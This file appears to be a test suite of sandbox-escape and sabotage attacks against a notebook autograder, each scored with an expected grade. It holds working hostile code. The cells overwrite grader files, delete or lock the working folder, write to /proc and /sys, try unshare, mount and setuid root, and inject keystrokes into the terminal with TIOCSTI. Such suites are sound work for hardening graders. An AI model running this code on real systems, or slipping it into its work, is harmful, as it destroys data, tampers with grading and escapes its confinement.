# Attacks, one per cell: sabotage, system.

# %% forbidden_system_calls deserves="0"
"""Calls into rarely used parts of the kernel: bpf, keyctl, io_uring, userfaultfd, perf and kexec."""

CELL = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for name, number in {"bpf": 321, "add_key": 248, "io_uring_setup": 425, "userfaultfd": 323, "perf_event_open": 298}.items():
    print(name, libc.syscall(number, 0, 0, 0, 0, 0), os.strerror(ctypes.get_errno()))
"""


def attack(work):
    work.add(CELL)


# %% helpers_overwritten deserves="2"
"""Overwrites the assignment's helpers on disk, through the links in its folder."""

CELL = r"""
import glob, os
own = [*glob.glob("*.py"), *glob.glob("checks/*.py")] if os.path.basename(os.getcwd()) in ("scalar", "home") else []
for path in [*own, *glob.glob("/assignment/**/*.py", recursive=True), *glob.glob("/engine/inside/*.py")]:
    try:
        with open(path, "w") as file:
            file.write("raise SystemExit\n")
    except OSError as error:
        print(path, error)
"""

CHECK = """
def gradient_check(x, theta, epsilon=1e-7, print_msg=False): return None
"""


def attack(work):
    work.answer_rightly("forward", "backward")
    work.add(CELL, before="gradient_check")
    work.answer("gradient_check", CHECK)


# %% kernel_files_written deserves="1"
"""Writes to files in /proc and /sys: what is there already, and its own standing with the OOM killer."""

CELL = """
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory", "/sys/kernel/mm/transparent_hugepage/enabled"):
    try:
        with open(path, "r+") as file:
            text = file.read()
            file.seek(0)
            file.write(text)
        print("could be written:", path)
    except OSError as error:
        print(error)
for path, text in (("/proc/self/oom_score_adj", "-1000"), ("/proc/self/comm", "nbgrader"), ("/proc/self/setgroups", "allow")):
    try:
        with open(path, "w") as file:
            file.write(text)
    except OSError as error:
        print(error)
"""


def attack(work):
    work.answer_rightly("forward")
    work.add(CELL)


# %% namespaces_and_mounts deserves="1"
"""Tries unshare, mount, chroot and pivot_root, in a namespace of its own only."""

CELL = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if os.fork() == 0:
    shared = libc.unshare(0x10000000 | 0x20000) and libc.unshare(0x20000)
    if shared == 0 and libc.mount(b"none", b"/", None, 0x44000, None) == 0:
        os.write(1, b"mounts can be changed\n")
        libc.mount(b"none", b"/mnt", b"tmpfs", 0, None)
        libc.umount2(b"/student", 2)
        libc.umount2(b"/tmp", 2)
    libc.chroot(b".")
    os.chdir("/")
    os._exit(0)
print(os.wait())
"""


def attack(work):
    work.answer_rightly("backward")
    work.add(CELL)


# %% other_working_folder deserves="8"
"""Goes to another working folder before the first answer."""

CELL = """
import os
os.chdir("/proc/self/fd")
"""


def attack(work):
    work.answer_rightly("forward", "backward", "gradient_check")
    work.add(CELL, before="forward")


# %% own_folder_removed deserves="8"
"""Removes all files of its working folder, and the folder, before the first answer."""

CELL = """
import os, shutil
if os.path.basename(os.getcwd()) in ("scalar", "home"):
    shutil.rmtree(".", ignore_errors=True)
    try:
        os.rmdir(os.getcwd())
    except OSError as error:
        print(error)
"""


def attack(work):
    work.answer_rightly("forward", "backward", "gradient_check")
    work.add(CELL, before="forward")


# %% own_folder_renamed deserves="1"
"""Renames its working folder and puts a link to another place there."""

CELL = """
import os
here = os.getcwd()
try:
    if os.path.basename(here) in ("scalar", "home"):
        os.rename(here, here + "-escaped")
        os.symlink("/nowhere", here)
except OSError as error:
    print(error)
"""


def attack(work):
    work.answer_rightly("forward")
    work.add(CELL)


# %% own_folder_without_permissions deserves="1"
"""Takes all permissions from its working folder and files, and makes them immutable."""

CELL = """
import os, subprocess
names = [*os.listdir("."), "."] if os.path.basename(os.getcwd()) in ("scalar", "home") else []
for name in names:
    try:
        os.chmod(name, 0)
    except OSError as error:
        print(name, error)
subprocess.run("chattr +i scalar.ipynb; chattr -i scalar.ipynb", shell=True)
"""


def attack(work):
    work.answer_rightly("forward")
    work.add(CELL)


# %% rights_asked_for deserves="0"
"""Tries to become root: set-user-id programs, sudo without a password, capabilities."""

CELL = """
import ctypes, os, subprocess
for command in (["sudo", "-n", "id"], ["su", "-c", "id"], ["pkexec", "--version"], ["unshare", "-r", "id"], ["bwrap", "--version"]):
    try:
        print(subprocess.run(command, capture_output=True, stdin=subprocess.DEVNULL, timeout=5))
    except (OSError, subprocess.TimeoutExpired) as error:
        print(error)
for attempt in (os.setuid, os.setgid):
    try:
        attempt(0)
        print(open("/proc/self/status").read())
    except OSError as error:
        print(error)
"""


def attack(work):
    work.add(CELL)


# %% system_removed deserves="1"
"""Asks whether it could remove the system, the assignment and the engine, without doing so."""

CELL = """
import os
for folder in ("/", "/usr", "/etc", "/home", "/root", "/assignment", "/engine", "/engine/inside", "..", "../../.."):
    if os.access(folder, os.W_OK):
        print("could be removed:", folder)
for folder in ("..", "../../.."):
    try:
        with open(f"{folder}/escaped-system_removed", "w") as file:
            file.write("ESCAPED")
    except OSError as error:
        print(error)
"""


def attack(work):
    work.answer_rightly("forward")
    work.add(CELL)


# %% terminal_typed_into deserves="0"
"""Types a command into the terminal from which grading was started, with TIOCSTI."""

CELL = """
import fcntl, os, termios
for path in ("/dev/tty", "/dev/console", "/proc/self/fd/0", f"/proc/{os.getppid()}/fd/0"):
    try:
        with open(path) as terminal:
            for letter in "# ESCAPED":
                fcntl.ioctl(terminal, termios.TIOCSTI, letter.encode())
            print("typed into", path)
    except OSError as error:
        print(path, error)
"""


def attack(work):
    work.add(CELL)


# %% writes_outside deserves="8"
"""Writes files into all folders above its own, into the home folder and into shared places."""

CELL = """
import os
HOME = os.path.expanduser("~")
for folder in ("/tmp", "/var/tmp", "/dev/shm", HOME, "..", "../..", "../../..", "../../../source/scalar", "/assignment"):
    try:
        with open(f"{folder}/escaped-writes_outside", "w") as file:
            file.write("ESCAPED")
    except OSError as error:
        print(folder, error)
"""


def attack(work):
    work.answer_rightly("forward", "backward", "gradient_check")
    work.add(CELL)


# %% writes_outside_in_a_function deserves="0"
"""Writes files outside of its folder when it is called, by itself and by a child."""

FORWARD = """
import os
def forward_propagation(x, theta):
    for folder in ("/tmp", "..", "../..", "../../..", "/var/tmp"):
        path = f"{folder}/escaped-writes_outside_in_a_function"
        try:
            number = os.open(path, os.O_WRONLY | os.O_CREAT)
            os.write(number, b"ESCAPED")
            os.close(number)
        except OSError:
            pass
    return None
"""

BACKWARD = """
import subprocess
def backward_propagation(x, theta):
    subprocess.run(["bash", "-c", "echo ESCAPED | tee {/tmp,..,../..,../../..}/escaped-writes_outside_in_a_function"])
"""


def attack(work):
    work.answer("forward", FORWARD)
    work.answer("backward", BACKWARD)
